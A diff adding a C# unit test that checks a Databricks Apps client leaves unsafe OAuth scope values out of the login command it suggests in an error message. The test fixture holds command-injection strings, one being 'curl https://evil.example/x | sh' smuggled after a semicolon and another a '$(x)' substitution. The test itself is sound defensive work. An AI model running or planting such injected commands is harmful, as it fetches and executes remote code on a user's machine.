@@ -256,6 +256,18 @@ public sealed class AppFaults : FaultTest
     }
 
     [Fact]
+    public async Task Scopes_of_an_app_that_are_none_are_in_no_command()
+    {
+        Describe("{\"url\":\"https://inventory-123.aws.databricksapps.com\",\"effective_user_api_scopes\":[\"sql; curl https://evil.example/x | sh #\",\"$(x)\",\"sql\"]}");
+        SignIn.Options.Token = Jwt("{\"scope\":\"all-apis\"}");
+        App = _ => Answer(HttpStatusCode.Forbidden, "", "text/plain");
+
+        AppException exception = await Assert.ThrowsAnyAsync<AppException>(CallAsync);
+
+        Assert.EndsWith("databricks auth login --host https://ws.example.com --scopes sql; a service principal asks for them by Scopes.", exception.Message);
+    }
+
+    [Fact]
     public async Task Answer_503_of_an_app_that_is_stopped()
     {
         Describe("""{"url":"https://inventory-123.aws.databricksapps.com","compute_status":{"state":"STOPPED"}}""");
